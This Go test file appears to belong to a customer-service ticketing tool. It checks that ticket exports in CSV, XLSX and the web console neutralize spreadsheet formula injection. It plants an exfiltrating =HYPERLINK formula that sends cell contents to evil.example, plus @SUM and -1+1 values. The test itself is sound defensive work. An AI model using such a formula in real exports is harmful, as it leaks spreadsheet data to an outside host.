package main

// The security suite (issue 15): each test reproduces one finding of a hostile test against the
// real server (serve) on a loopback port, with bounded loops, and checks the fix. Run them alone
// with `go test ./cmd/kefu -run Security`.

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"golang.org/x/crypto/bcrypt"

	"github.com/kefu-dev/kefu/console"
	"github.com/kefu-dev/kefu/storage"
)

var securityCSRF = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

// consoleClient signs in to the server's console as a new account of role and returns the client.
func consoleClient(t *testing.T, s *journeyServer, name, role, pw string) *http.Client {
	t.Helper()
	hash, err := console.HashPassword(pw, bcrypt.MinCost)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.db.CreateUser(context.Background(), storage.User{Name: name, Role: role, PasswordHash: hash}); err != nil {
		t.Fatal(err)
	}
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	code, _ := consoleSignIn(t, c, s.url, name, pw)
	if code != http.StatusSeeOther {
		t.Fatalf("sign in as %s: %d", name, code)
	}
	return c
}

// consoleSignIn posts the sign-in form (fetching its CSRF token first) and returns the status and body.
func consoleSignIn(t testing.TB, c *http.Client, base, name, pw string, hdr ...string) (int, string) {
	t.Helper()
	resp, err := c.Get(base + "/console/login")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	m := securityCSRF.FindStringSubmatch(string(b))
	if m == nil {
		t.Fatalf("no csrf token on the sign-in page: %s", b)
	}
	form := url.Values{"csrf": {m[1]}, "name": {name}, "password": {pw}}
	req, _ := http.NewRequest(http.MethodPost, base+"/console/login", strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err = c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	return resp.StatusCode, string(b)
}

// checkNoFormula fails when any cell begins with a character a spreadsheet takes as a formula.
func checkNoFormula(t *testing.T, what string, rows [][]string, planted string) {
	t.Helper()
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if strings.Contains(cell, planted) {
				found = true
			}
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: cell %q would be evaluated as a formula", what, cell)
			}
		}
	}
	if !found {
		t.Errorf("%s: the customer's text %q is missing (rows %q)", what, planted, rows)
	}
}

// TestSecurityCSVFormulaInjection (finding 1): a customer's formula in a ticket's description and
// survey comment must reach the exports as text, neutralized, in the CLI's CSV and .xlsx and the
// console's CSV.
func TestSecurityCSVFormulaInjection(t *testing.T) {
	dsn := filepath.Join(t.TempDir(), "kefu.db")
	s := startJourneyServer(t, dsn, nil, nil)
	const evil = `=HYPERLINK("http://evil.example/?x="&C2,"点击")`
	// As in the finding: the formula, then 转人工 (the ticket's summary and description are the formula).
	sess := s.session()
	s.say(sess, nil, evil)
	r := s.say(sess, nil, "转人工")
	no := ticketNo.FindString(r[len(r)-1].Text)
	if no == "" {
		t.Fatalf("no ticket number in %+v", r)
	}
	s.cli("claim", no)
	s.cli("resolve", no, "-1+1 更换电机")
	ask := s.poll(sess, r[len(r)-1].ID, no)
	r = s.say(sess, []reply{ask}, "!已解决")
	r = s.say(sess, r, "!4")
	s.say(sess, r, "@SUM(1+1) 师傅很专业")
	if show := s.cli("show", no); !strings.Contains(show, "@SUM(1+1)") {
		t.Fatalf("the survey comment did not reach the ticket:\n%s", show)
	}

	env := func(k string) string {
		if k == "KEFU_DATABASE_URL" {
			return dsn
		}
		return ""
	}
	var out bytes.Buffer
	csvPath := filepath.Join(t.TempDir(), "t.csv")
	if err := runExport(context.Background(), []string{"tickets", "--from", "2000-01-01", "--to", "2100-01-01", "--format", "csv", "-o", csvPath}, &out, env); err != nil {
		t.Fatal(err)
	}
	checkNoFormula(t, "kefu export tickets --format csv", readCSV(t, mustRead(t, csvPath)), "HYPERLINK")

	xlsxPath := filepath.Join(t.TempDir(), "t.xlsx")
	if err := runExport(context.Background(), []string{"tickets", "--from", "2000-01-01", "--to", "2100-01-01", "-o", xlsxPath}, &out, env); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenFile(xlsxPath)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	for _, sheet := range []string{"Tickets", "Events"} {
		rows, err := x.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		checkNoFormula(t, "xlsx sheet "+sheet, rows, "HYPERLINK")
	}

	c := consoleClient(t, s, "sup", "supervisor", "sup-password-1")
	resp, err := c.Get(s.url + "/console/export/tickets?from=2000-01-01&to=2100-01-01")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("console CSV: %d %s", resp.StatusCode, b)
	}
	rows := readCSV(t, string(b))
	if !strings.Contains(string(b), `'=HYPERLINK`) || !strings.Contains(string(b), "'@SUM") {
		t.Errorf("console CSV: want the formulas quoted as text ('=HYPERLINK, '@SUM):\n%s", b)
	}
	checkNoFormula(t, "console CSV", rows, "HYPERLINK")
	checkNoFormula(t, "console CSV", rows, "@SUM(1+1)")
}

func readCSV(t *testing.T, s string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(s, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func mustRead(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}
